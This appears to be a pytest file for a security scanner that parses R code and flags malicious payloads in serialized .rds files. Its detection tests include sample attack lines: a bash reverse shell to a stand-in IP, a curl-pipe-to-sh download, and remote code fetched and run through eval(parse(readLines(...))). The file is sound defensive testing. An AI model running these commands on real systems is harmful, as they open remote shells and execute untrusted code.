"""R as text: parsed as R does it, and judged like code that was never text."""

import contextlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from scanner.errors import Malformed
from scanner.finding import Verdict
from scanner.languages.r.nodes import Closure, Constant, Pairs, Symbol
from scanner.languages.r.source import parsed
from tests.hostile.scanning import blocked_for, scan
from tests.recipes.robjects import Promise, call, serialized


def shown(node) -> str:
    """Every call with its function in front."""
    match node:
        case Pairs(items=items):
            parts = [f"{item.tag}={shown(item.value)}" if item.tag else shown(item.value) for item in items]
            return f"{parts[0]}({', '.join(parts[1:])})"
        case Symbol(name):
            return name
        case Constant(values=(value,)):
            return repr(value)
        case Closure(formals=Pairs(items=items), body=body):
            return f"fun[{' '.join(item.tag for item in items)}]{shown(body)}"
    return "."


@pytest.mark.parametrize(
    ("text", "calls"),
    [
        ("a + b * c ^ d ^ e", "+(a, *(b, ^(c, ^(d, e))))"),
        ("-a ^ 2 : b", ":(-(^(a, 2.0)), b)"),
        ("!a == b && c | d", "|(&&(!(==(a, b)), c), d)"),
        ("x <- y <<- f(1, k = 'v', )", "<-(x, <<-(y, f(1.0, k='v')))"),
        ("1L -> x; x$y@z[[2]][3](4)", "<-(x, 1.0)|[([[(@($(x, y), z), 2.0), 3.0)(4.0)"),
        ("base::system('id')", "::(base, system)('id')"),
        ("function(a, b = 2, ...) a + b", "fun[a b ...]+(a, b)"),
        ("(\\(x) x)(1)", "((fun[x]x)(1.0)"),
        ("if (a) b else c", "if(a, b, c)"),
        ("for (i in 1:3) { f(i)\n g() }", "for(i, :(1.0, 3.0), {(f(i), g()))"),
        ("while (TRUE) repeat break", "while(True, repeat(break))"),
        ("a |> f(1)", "f(a, 1.0)"),
        ("`my name`(0x1F, 1e-3, .5)", "my name(31.0, 0.001, 0.5)"),
        ("a %in% b # a comment\nc", "%in%(a, b)|c"),
        ("f(a\n+ b)\n-c", "f(+(a, b))|-(c)"),
        ('"a\\n\\x41\\"" ; \'b"\'', "'a\\nA\"'|'b\"'"),
        ("y ~ x; ~ z", "~(y, x)|~(z)"),
    ],
)
def test_texts_are_parsed_as_r_does_it(text, calls):
    block = parsed(text)
    assert isinstance(block, Pairs)
    found = [shown(item.value) for item in block.items[1:]]
    assert "|".join(found) == calls


@pytest.mark.parametrize("text", ["f(", "a +", "'open", "{ a", "a )", "if a", "\x00"])
def test_what_r_would_not_take_is_malformed(text):
    with pytest.raises(Malformed):
        parsed(text)


PIECES = ["f", "(", ")", "{", "}", "[", "]", ",", "\n", ";", " ", "=", "<-", "->", "::", "'a\\x41'", "1e9", "0x", "if",
          "else", "for", "in", "function", "\\", "%o%", "|>", "-", "#", "`x y`", "é", "\x00"]  # fmt: skip


@given(st.lists(st.sampled_from(PIECES), max_size=30).map("".join) | st.text(max_size=40))
def test_no_text_escapes(text):
    with contextlib.suppress(Malformed):
        parsed(text)


def evaluated(text: str) -> bytes:
    return serialized(Promise(call("eval", call("parse", ("text", text)))))


@pytest.mark.parametrize(
    ("text", "behaviour"),
    [
        ("system('bash -i >& /dev/tcp/192.0.2.10/4444 0>&1')", "remote-shell"),
        ("f <- base::system\nf(paste0('curl http://192.0.2.1/x', ' | sh'))", "download-and-run"),
        ("local({ x <- 'id'; system(x) })", "code-execution"),
        ("sapply(c('id'), function(x) system(x))", "code-execution"),
        ("eval(parse(text = 'system(\"id\")'))", "code-execution"),
        ("eval(parse(text = readLines('http://192.0.2.1/x')))", "download-and-run"),
        ("this is no R", "code-execution"),
    ],
)
def test_what_is_evaluated_is_judged(text, behaviour):
    assert behaviour in blocked_for(scan(evaluated(text), "fit.rds"))


@pytest.mark.parametrize("text", ["a + b", "lm(y ~ x, data = d)$coefficients", "function(x) x ^ 2"])
def test_what_only_computes_is_not(text):
    assert scan(evaluated(text), "fit.rds").verdict is Verdict.CLEAN
